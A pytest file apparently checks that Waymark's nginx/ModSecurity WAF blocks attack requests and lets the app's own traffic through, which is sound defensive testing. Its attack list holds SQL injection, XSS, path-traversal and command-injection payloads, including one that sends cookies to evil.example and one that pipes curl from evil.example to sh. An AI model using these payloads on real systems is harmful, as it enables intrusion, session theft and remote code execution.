"""The WAF in deploy/nginx (nginx + ModSecurity v3 + OWASP CRS) in front of the real app.

Attack corpus: every request is refused with 403 by the WAF (the app never answers it).
Normal corpus: Waymark's own traffic - the browser journey's pages and assets, the API calls
the front end and the API tests make (sign-up, maps, layers, features with free-text
properties, batches, history, members, tokens, exports), real-world GeoJSON/KML/GPX/CSV
uploads from the geodata corpus (tests/data/geo), and a websocket session - is never blocked.
"""

from __future__ import annotations

import http.client
import json
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import GEO_DATA
from tests.security.live import running_app
from tests.security.nginx_waf import HOST, Waf, running_waf
from waymark.web_assets import asset_url

PASSWORD = "correct horse battery staple"


@dataclass
class Stack:
    waf: Waf
    app_url: str


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    tmp = tmp_path_factory.mktemp("waf")
    with running_app(tmp / "var") as app, \
            running_waf(f"127.0.0.1:{app.port}", tmp / "nginx") as waf:
        yield Stack(waf, app.url)


def request(waf: Waf, method: str, path: str, body: bytes | None = None,
            headers: dict[str, str] | None = None) -> tuple[int, bytes, http.client.HTTPResponse]:
    conn = http.client.HTTPConnection("127.0.0.1", waf.port, timeout=60)
    conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    hdrs = {"Host": HOST, "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0",
            "Accept": "*/*", **(headers or {})}
    if body is not None:
        hdrs["Content-Length"] = str(len(body))
    for name, value in hdrs.items():
        conn.putheader(name, value)
    conn.endheaders(body)
    resp = conn.getresponse()
    data = resp.read()
    conn.close()
    return resp.status, data, resp


def nginx_refused(status: int, body: bytes) -> bool:
    """nginx's own HTML error page (WAF 403, body-parse 400, 413...); the app answers JSON."""
    return status >= 400 and b"<center>nginx</center>" in body


def waf_blocked(status: int, body: bytes) -> bool:
    return status == 403 and nginx_refused(status, body)


# ---- attack corpus --------------------------------------------------------------------------
ATTACKS: list[tuple[str, str, str, bytes | None, dict[str, str]]] = [
    ("sqli quote", "GET", "/api/v1/maps?q=1%27%20OR%20%271%27%3D%271", None, {}),
    ("sqli union", "GET", "/api/v1/maps?q=1%20UNION%20SELECT%20username,password%20FROM%20users--",
     None, {}),
    ("sqli in json", "POST", "/api/v1/auth/login",
     b'{"email": "a@b.c\' OR 1=1 --", "password": "x\' UNION SELECT password FROM users--"}',
     {"Content-Type": "application/json"}),
    ("xss script", "GET", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None, {}),
    ("xss handler", "GET", "/login?next=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", None, {}),
    ("xss in map title", "POST", "/api/v1/maps",
     b'{"title": "<script>fetch(\'//evil.example/\'+document.cookie)</script>"}',
     {"Content-Type": "application/json"}),
    ("path traversal query", "GET", "/static/dist/x?file=../../../../etc/passwd", None, {}),
    ("path traversal encoded", "GET", "/api/v1/maps?path=..%2f..%2f..%2fetc%2fshadow", None, {}),
    ("command injection", "GET", "/api/v1/maps?q=%3Bcat%20/etc/passwd", None, {}),
    ("command injection subshell", "GET", "/api/v1/maps?q=%24(curl%20http://evil.example/x%7Csh)",
     None, {}),
    ("scanner nikto", "GET", "/", None, {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6)"}),
    ("scanner sqlmap", "GET", "/api/v1/maps", None, {"User-Agent": "sqlmap/1.7.2#stable"}),
    ("oversized header", "GET", "/", None, {"X-Padding": "A" * 6000}),
    ("oversized cookie", "GET", "/api/v1/maps", None, {"Cookie": "waymark_session=" + "b" * 5000}),
]


@pytest.mark.parametrize("name,method,path,body,headers", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_attack_is_blocked(stack: Stack, name: str, method: str, path: str, body: bytes | None,
                           headers: dict[str, str]) -> None:
    status, data, _ = request(stack.waf, method, path, body, headers)
    assert waf_blocked(status, data), f"{name}: {status} {data[:200]!r}"


def test_traversal_in_the_path_never_reaches_the_app(stack: Stack) -> None:
    """nginx normalises the URI first: raw ../ out of the root is a 400 before the WAF."""
    status, _, _ = request(stack.waf, "GET", "/static/../../../etc/passwd")
    assert status in (400, 403)


# ---- normal corpus ----------------------------------------------------------------------------
class Journey:
    """Waymark's own traffic through the WAF; every response is recorded."""

    def __init__(self, waf: Waf) -> None:
        self.waf = waf
        self.cookie = ""
        self.csrf = ""
        self.log: list[tuple[str, str, int, bytes]] = []

    def send(self, method: str, path: str, body: Any = None, *, raw: bytes | None = None,
             content_type: str = "application/json", expect: tuple[int, ...] = ()) -> Any:
        headers: dict[str, str] = {}
        if self.cookie:
            headers["Cookie"] = self.cookie
        if self.csrf and method not in ("GET", "HEAD"):
            headers["X-CSRF-Token"] = self.csrf
        data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
        if data is not None:
            headers["Content-Type"] = content_type
        status, out, resp = request(self.waf, method, path, data, headers)
        self.log.append((method, path, status, out[:300]))
        cookie = resp.getheader("set-cookie")
        if cookie and cookie.startswith("waymark_session="):
            self.cookie = cookie.split(";", 1)[0]
        if expect:
            assert status in expect, (method, path, status, out[:300])
        try:
            return json.loads(out) if out[:1] in (b"{", b"[") else out
        except ValueError:
            return out


FREE_TEXT = [
    "Tom's café & bar — open 9–5; try the \"special\"",
    "Meet at <Gate 3> near the old mill, then select a table by the window",
    "Drop-off: 1/2 price on Mondays; or 50% off; C:\\maps\\old",
    "Ruta por la montaña: ¿dónde está el refugio? 山小屋 → 2 km",
    "Note: the path (or road) is closed -- use the alternative; 1 = 1",
    "<b>Bold</b> claim: best view in town; see https://example.org/?a=1&b=2",
    "Union Street & Select Avenue crossing; drop table tennis here",
]


def _geo_files() -> list[Path]:
    picks = ["geojson/openlayers/fire.json", "geojson/librarieswest/boundary_poole.geojson",
             "kml/fastkml/KML_Samples.kml", "kml/togeojson/point.kml",
             "gpx/gpxpy/", "gpx/leaflet-gpx/", "csv/"]
    out: list[Path] = []
    for pick in picks:
        p = GEO_DATA / pick
        if p.is_dir():
            files = sorted(f for f in p.rglob("*") if f.is_file() and f.stat().st_size < 300_000)
            out += files[:3]
        elif p.exists():
            out.append(p)
    return out


CONTENT_TYPES = {".json": "application/geo+json", ".geojson": "application/geo+json",
                 ".kml": "application/vnd.google-earth.kml+xml", ".gpx": "application/gpx+xml",
                 ".csv": "text/csv"}


def test_waymark_traffic_is_never_blocked(stack: Stack) -> None:
    j = Journey(stack.waf)
    # pages and assets of the browser journey
    home = j.send("GET", "/", expect=(200,))
    for asset in {a.decode() for a in __import__("re").findall(rb'(/static/dist/[^"]+)', home)}:
        j.send("GET", asset, expect=(200,))
    for page in ("/login", "/signup", "/healthz", "/readyz", "/api/docs", "/api/openapi.json"):
        j.send("GET", page, expect=(200,))
    # the basemap reads its archive with range requests
    status, _, _ = request(stack.waf, "GET", asset_url("basemap.pmtiles"), None,
                           {"Range": "bytes=0-16383"})
    assert status == 206
    user = j.send("POST", "/api/v1/auth/signup", {"email": "walker@example.com", "password":
                                                   PASSWORD, "display_name": "Walker O'Neil"},
                  expect=(201,))
    j.csrf = user["csrf_token"]
    j.send("GET", "/api/v1/auth/me", expect=(200,))
    j.send("GET", "/dashboard", expect=(200,))
    m = j.send("POST", "/api/v1/maps", {"title": "Walks & talks: O'Neil's (2026)",
                                        "description": FREE_TEXT[1], "visibility": "public"},
               expect=(201,))
    base = f"/api/v1/maps/{m['id']}"
    j.send("GET", f"/m/{m['id']}", expect=(200,))
    j.send("GET", f"/m/{m['id']}/embed", expect=(200,))
    j.send("PATCH", base, {"title": "Walks, talks & more", "description": FREE_TEXT[0]},
           expect=(200,))
    layer = j.send("GET", base + "/layers", expect=(200,))[0]
    lbase = f"{base}/layers/{layer['id']}"
    j.send("PATCH", lbase, {"name": "Stops; cafés & views"}, expect=(200,))
    features = []
    for i, text in enumerate(FREE_TEXT):
        f = j.send("POST", lbase + "/features", {
            "geometry": {"type": "Point", "coordinates": [-3.19 + i / 100, 55.95]},
            "properties": {"name": text[:40], "description": text, "rating": i,
                           "tags": ["coffee", "view"], "url": "https://example.org/a?b=c&d=e"}},
            expect=(201,))
        features.append(f)
    f = features[0]
    j.send("PATCH", f"{lbase}/features/{f['id']}",
           {"properties": {"description": FREE_TEXT[4]}, "version": f["version"]}, expect=(200,))
    j.send("PUT", f"{lbase}/features/{features[1]['id']}", {
        "geometry": {"type": "LineString", "coordinates": [[-3.2, 55.9], [-3.1, 55.95]]},
        "properties": {"name": "Route", "note": FREE_TEXT[6]}}, expect=(200,))
    j.send("POST", lbase + "/batch", {"operations": [
        {"op": "add", "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1],
                                                                       [0, 0]]]},
         "properties": {"name": "Area", "note": FREE_TEXT[3]}},
        {"op": "delete", "id": features[2]["id"]}]}, expect=(200,))
    j.send("GET", lbase + "/features?limit=100", expect=(200,))
    j.send("GET", lbase + "/history", expect=(200,))
    j.send("GET", base + "/history", expect=(200,))
    j.send("DELETE", f"{lbase}/features/{features[3]['id']}", expect=(204,))
    j.send("POST", lbase + "/revert", {"version": 2}, expect=(200,))
    j.send("GET", "/api/v1/maps?scope=mine&q=walks", expect=(200,))
    j.send("POST", "/api/v1/tokens", {"name": "phone (Walker's)", "scope": "read"}, expect=(201,))
    # uploads: real-world files
    for path in _geo_files():
        ctype = CONTENT_TYPES.get(path.suffix.lower(), "application/octet-stream")
        j.send("POST", f"{base}/import?filename={path.name}", raw=path.read_bytes(),
               content_type=ctype, expect=(201, 202, 422))
    for fmt in ("geojson", "kml", "gpx", "csv"):
        j.send("GET", f"{lbase}/export?format={fmt}", expect=(200,))
    j.send("GET", base + "/export", expect=(200,))
    blocked = [(m_, p, s) for m_, p, s, out in j.log if nginx_refused(s, out)]
    assert not blocked, f"the WAF blocked Waymark traffic: {blocked}\n{stack.waf.audit()[-4000:]}"
    assert len(j.log) > 40
    # a websocket session through the WAF
    _websocket_hello(stack.waf, m["id"])


def _websocket_hello(waf: Waf, map_id: str) -> None:
    from websockets.sync.client import connect

    sock = socket.create_connection(("127.0.0.1", waf.port), timeout=10)
    with connect(f"ws://{HOST}/api/v1/maps/{map_id}/ws", sock=sock,
                 user_agent_header="Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0") as ws:
        first = json.loads(ws.recv(timeout=10))
    assert first.get("type") == "hello", first
